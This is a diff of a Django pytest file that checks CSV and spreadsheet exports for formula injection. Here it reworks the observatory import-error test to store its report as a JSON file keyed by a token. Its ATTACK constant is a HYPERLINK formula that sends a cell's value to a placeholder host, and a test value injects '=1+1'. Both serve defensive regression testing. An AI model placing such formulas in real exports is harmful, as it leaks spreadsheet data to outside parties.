@@ -2,13 +2,17 @@
 
 import csv
 import io
+import json
 from types import SimpleNamespace
 
 import pytest
+from django.core.files.base import ContentFile
+from django.core.files.storage import default_storage
 from django.urls import reverse
 from openpyxl import load_workbook
 
 from maillage.kernel.exports import Column, Table, safe_cell, tabular_response
+from maillage.observatory.importers import generic
 from tests.companies.factories import EstablishmentFactory
 
 ATTACK = '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")'
@@ -77,8 +81,17 @@ def test_an_observatory_import_error_is_neutralised_in_the_error_file(client, ch
     """Regression: the observatory's import-error file wrote each message as is (its own ``csv.writer``),
     so a value quoted in an error could run as a formula in the analyst's spreadsheet."""
     client.force_login(charge_mission)
+    token = "0123456789abcdef0123456789abcdef"
+    report = {
+        "name": "f.csv",
+        "summary": "",
+        "dry_run": True,
+        "error_count": 1,
+        "errors": [[3, "=1+1 n'est pas un code INSEE"]],
+    }
+    default_storage.save(f"{generic.REPORTS_DIR}/{token}.json", ContentFile(json.dumps(report).encode()))
     session = client.session
-    session["observatory_import_errors"] = [[3, "=1+1 n'est pas un code INSEE"]]
+    session["observatory_import_errors"] = token
     session.save()
     body = client.get(reverse("observatory:import_errors")).content.decode("utf-8-sig")
     assert list(csv.reader(io.StringIO(body), delimiter=";")) == [
